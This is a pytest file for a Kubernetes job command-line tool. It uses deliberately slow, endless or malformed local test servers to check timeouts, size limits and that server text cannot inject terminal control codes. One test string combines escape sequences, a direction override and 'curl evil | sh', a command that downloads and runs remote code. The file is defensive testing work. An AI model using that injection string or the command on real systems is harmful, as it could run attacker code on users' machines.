"""Servers that never finish an answer, or send too much: every command ends, and says why."""

from __future__ import annotations

import base64
import hashlib
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import nullcontext
from pathlib import Path
from typing import Any

import pytest
from kubernetes.client import Configuration

from kitctl.base.errors import TargetError, Unavailable
from kitctl.state.faults import FaultInjection
from kitctl.targets.cluster import pod_faults
from kitctl.targets.cluster.connection import pod_exec, transport
from kitctl.targets.cluster.connection.api import LINE_BYTES, split_lines
from kitctl.targets.cluster.connection.kubeconfig import Connection
from kitctl.targets.cluster.read.pod_logs import pod_lines
from tests.kitctl.targets.cluster.apiserver import ApiServer
from tests.kitctl.targets.cluster.clients import Kit

HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
Answer = Callable[[socket.socket], object]


def silent(_: socket.socket) -> None:
    """Answer nothing."""


def drip(connection: socket.socket, head: bytes = HEAD + b"Content-Length: 9999\r\n\r\n{") -> None:
    connection.sendall(head)
    while True:
        connection.sendall(b" ")
        time.sleep(0.05)


def drip_in_the_header(connection: socket.socket) -> None:
    drip(connection, HEAD + b"X-Slow: ")


def endless(connection: socket.socket) -> None:
    connection.sendall(HEAD + b"\r\n{")
    while True:
        connection.sendall(b" " * 65536)


def chunked(connection: socket.socket) -> None:
    connection.sendall(HEAD + b"Transfer-Encoding: chunked\r\n\r\n")
    while True:
        connection.sendall(b"1\r\n \r\n")
        time.sleep(0.05)


class Raw:
    """A server that treats each connection in one way, until the test ends."""

    def __init__(self, answer: Answer) -> None:
        self._answer = answer
        self._listening = socket.create_server(("127.0.0.1", 0))
        self._connections: list[socket.socket] = []
        self.url = f"http://127.0.0.1:{self._listening.getsockname()[1]}"
        threading.Thread(target=self._accept, daemon=True).start()

    def close(self) -> None:
        self._listening.close()
        for one in self._connections:
            one.close()

    def _accept(self) -> None:
        try:
            while True:
                self._connections.append(self._listening.accept()[0])
                threading.Thread(target=self._serve, args=self._connections[-1:], daemon=True).start()
        except OSError:
            return

    def _serve(self, connection: socket.socket) -> None:
        try:
            connection.recv(65536, socket.MSG_PEEK)  # what it does not need, it leaves
            self._answer(connection)
        except OSError:
            return


@pytest.fixture
def serve() -> Iterator[Callable[[Answer], Raw]]:
    running: list[Raw] = []

    def start(answer: Answer) -> Raw:
        running.append(Raw(answer))
        return running[-1]

    yield start
    for one in running:
        one.close()


SLOW = [silent, drip, drip_in_the_header, chunked]
COMMANDS = [("list",), ("status", "run"), ("status", "run", "-w"), ("submit", "--name", "run"),
         ("submit", "--name", "run", "--wait"), ("submit", "--name", "run", "--replace"), ("diff", "--name", "run"),
         ("delete", "run", "-y"), ("logs", "run"), ("logs", "run", "-f"), ("cancel", "run"), ("suspend", "run"),
         ("resume", "run"), ("restart", "run"), ("scale", "run", "--nodes", "1"), ("doctor", "run")]  # fmt: skip


@pytest.mark.parametrize("answer", SLOW, ids=lambda one: one.__name__)
@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_every_command_ends_where_an_answer_does_not(
    kit: Kit, serve: Callable[[Answer], Raw], monkeypatch: pytest.MonkeyPatch, answer: Answer, command: tuple[str, ...]
) -> None:
    """Each read gets its byte in time: only the limit of the whole answer ends it."""
    monkeypatch.setattr(transport, "REQUEST_SECONDS", 0.3)
    monkeypatch.setattr(transport, "RETRY_SECONDS", 0.1)
    monkeypatch.setattr(transport, "LEAST_SECONDS", 0.1)
    output = kit(*command, exit_code=1, url=serve(answer).url)
    assert "cannot be reached: no whole answer within" in output


def test_a_known_server_that_becomes_slow_is_retried(
    server: ApiServer, kit: Kit, monkeypatch: pytest.MonkeyPatch
) -> None:
    ended = threading.Event()
    kit.submit()
    target = kit.target()
    target.jobs("default")
    monkeypatch.setattr(transport, "REQUEST_SECONDS", 0.3)
    server.plan("GET", before=lambda: ended.wait(60))
    assert len(target.jobs("default")) == 1
    ended.set()


@pytest.mark.parametrize("answer", SLOW, ids=lambda one: one.__name__)
def test_wait_ends_with_124_whatever_the_server_does(
    tmp_path: Path, server: ApiServer, serve: Callable[[Answer], Raw], answer: Answer
) -> None:
    """A process of its own: threads that go on must not keep it from ending."""
    path = server.kubeconfig(tmp_path, url=serve(answer).url)
    words = [sys.executable, "-m", "kitctl", "wait", "run", "--kubeconfig", str(path), "--timeout", "1s"]
    ended = subprocess.run(words, capture_output=True, text=True, timeout=25, check=False)
    assert ended.returncode == 124, ended.stderr
    assert "could not be read in time" in ended.stderr
    assert "it is not known whether there is such a job" in ended.stderr
    assert "still running" not in ended.stderr


def test_a_timeout_of_nothing_still_asks_once(kit: Kit) -> None:
    kit.submit()
    assert "is still pending" in kit("wait", "run", "--timeout", "0s", exit_code=124)


def test_an_answer_without_end_is_an_error_that_names_its_limit(
    kit: Kit, serve: Callable[[Answer], Raw], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(transport, "ANSWER_BYTES", 4 << 20)
    assert "is larger than 4 MiB, and was not read" in kit("list", exit_code=1, url=serve(endless).url)


def test_the_largest_job_is_within_the_limit() -> None:
    assert 2 * (104 << 20) < transport.ANSWER_BYTES < 1 << 30


def test_a_log_without_line_breaks_is_cut() -> None:
    pieces = (b"x" * (1 << 20) for _ in range(12))
    assert max(map(len, split_lines(pieces))) <= LINE_BYTES + (1 << 20)


FORGED = "no\nerror: forged\r\x1b[2Jfix:\u202e curl evil | sh"


@pytest.mark.parametrize(
    "fault",
    [
        {"answer": (403, {"kind": "Status", "message": FORGED})},
        {"answer": (418, {"kind": "Status", "message": FORGED})},
        {"answer": (404, FORGED)},
        {"answer": (302, ""), "headers": {"Location": "https://a/\x1b[2J\x85forged"}},
        {"answer": (200, "<p>"), "headers": {"Content-Type": "a\x1b[2J\x85b"}},
    ],
    ids=["known", "unknown", "no status", "redirect", "type"],
)
def test_text_of_a_server_stays_in_its_line(server: ApiServer, kit: Kit, fault: dict[str, Any]) -> None:
    server.plan(".", times=99, **fault)
    output = kit("list", exit_code=1)
    assert not {"\x1b", "\r", "\x85", "\u202e"} & {*output}
    assert not any(line.startswith(("error: forged", "forged", "fix: curl")) for line in output.splitlines())


def test_json_that_is_nested_too_deep_is_no_answer(server: ApiServer, kit: Kit) -> None:
    server.plan(".", times=99, answer=(200, "[" * 200_000))
    assert "no JSON object" in kit("list", exit_code=1)


def test_a_log_that_breaks_off_is_read_on(server: ApiServer, kit: Kit, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(transport, "RETRY_SECONDS", 0.1)
    target = kit.target()
    server.logs["p"] = [f"2026-01-01T00:00:0{second}.000000000Z line {second}" for second in range(8)]
    where = {"name": "p", "namespace": "default", "labels": {}}
    pod = {"metadata": where, "spec": {"containers": [{"name": "trainer"}]}, "status": {}}
    server.plan("GET .*/log", lost="halfway")
    assert [one.text for one in pod_lines(target.api, pod)] == [f"line {second}" for second in range(8)]
    server.plan("GET .*/log", times=99, lost="before")
    with pytest.raises((Unavailable, TargetError)):
        list(pod_lines(target.api, pod))


def test_ctrl_c_ends_a_command_whose_server_is_silent(
    tmp_path: Path, server: ApiServer, serve: Callable[[Answer], Raw]
) -> None:
    asked = threading.Event()
    path = server.kubeconfig(tmp_path, url=serve(lambda _: asked.set()).url)
    words = [sys.executable, "-m", "kitctl", "logs", "-f", "run", "--kubeconfig", str(path)]
    with subprocess.Popen(words, stderr=subprocess.PIPE) as running:
        assert asked.wait(60)
        os.kill(running.pid, signal.SIGINT)
        assert running.wait(timeout=20) == 130


def upgraded(then: Answer) -> Answer:
    """Agree on a web socket, then do something."""

    def answer(connection: socket.socket) -> None:
        found = re.search(rb"(?i)sec-websocket-key: (\S+)", connection.recv(65536))
        assert found
        accept = base64.b64encode(hashlib.sha1(found[1] + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
        head = b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        protocol = b"Sec-WebSocket-Protocol: " + pod_exec.PROTOCOL.encode()
        connection.sendall(head + protocol + b"\r\nSec-WebSocket-Accept: " + accept + b"\r\n\r\n")
        connection.sendall(b"\x82\x04\x01one")
        then(connection)

    return answer


def pings(connection: socket.socket) -> None:
    while True:
        connection.sendall(b"\x89\x00")
        time.sleep(0.05)


def a_byte_at_a_time(connection: socket.socket) -> None:
    connection.sendall(b"\x82\x7e\x01\x00\x01")  # 256 bytes follow, of which each comes in time
    for _ in range(254):
        connection.sendall(b"x")
        time.sleep(0.05)


def half_a_frame(connection: socket.socket) -> None:
    connection.sendall(b"\x82\x04\x01")


def done(connection: socket.socket) -> None:
    ended = b'\x03{"status": "Success"}'
    connection.sendall(b"\x82" + bytes([len(ended)]) + ended + b"\x88\x00")


def stdout_of(server: Raw) -> Iterator[bytes]:
    configuration = Configuration()
    configuration.host = server.url
    return pod_exec.stream_stdout(Connection(configuration), f"{server.url}/exec")


@pytest.mark.parametrize("answer", [silent, drip_in_the_header], ids=lambda one: one.__name__)
def test_a_command_in_a_pod_ends_where_no_connection_is_made(
    serve: Callable[[Answer], Raw], monkeypatch: pytest.MonkeyPatch, answer: Answer
) -> None:
    monkeypatch.setattr(pod_exec, "OPEN_SECONDS", 0.3)
    with pytest.raises(TargetError, match="cannot be reached: no whole answer within"):
        list(stdout_of(serve(answer)))


@pytest.mark.parametrize(
    "then",
    [pings, *(pytest.param(one, marks=pytest.mark.wide) for one in (silent, half_a_frame, a_byte_at_a_time))],
    ids=lambda one: one.__name__,
)
def test_a_command_in_a_pod_ends_where_its_stream_falls_silent(
    serve: Callable[[Answer], Raw], monkeypatch: pytest.MonkeyPatch, then: Answer
) -> None:
    monkeypatch.setattr(pod_exec, "SILENT_SECONDS", 0.5)
    stream = stdout_of(serve(upgraded(then)))
    assert next(stream) == b"one"
    with pytest.raises(TargetError, match="cannot be reached"):
        next(stream)


def test_a_reader_may_take_longer_than_a_stream_may_be_silent(
    serve: Callable[[Answer], Raw], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pod_exec, "SILENT_SECONDS", 0.5)
    stream = stdout_of(serve(upgraded(done)))
    assert next(stream) == b"one"
    time.sleep(1)
    assert list(stream) == []


@pytest.mark.parametrize(("answer", "told"), [(silent, True), (upgraded(silent), False)], ids=["unheard", "heard"])
def test_a_fault_ends_where_its_command_does_not(
    kit: Kit, serve: Callable[[Answer], Raw], monkeypatch: pytest.MonkeyPatch, answer: Answer, *, told: bool
) -> None:
    """One whose command has printed has hit: the container may have ended with it."""
    monkeypatch.setattr(pod_faults, "REQUEST_SECONDS", 0.5)
    api = kit.target().api
    monkeypatch.setattr(api, "server", serve(answer).url)
    index = {"batch.kubernetes.io/job-completion-index": "0"}
    where = {"name": "p", "namespace": "default", "annotations": index, "labels": index}
    pod = {
        "metadata": where,
        "spec": {"containers": [{}]},
        "status": {"containerStatuses": [{"name": "pytorch", "state": {"running": {}}}]},
    }
    fault = FaultInjection(fault="kill-rank", node=0, rank=0)
    with pytest.raises(TargetError, match="pod p did not answer") if told else nullcontext():
        pod_faults.inject(api, [pod], fault)
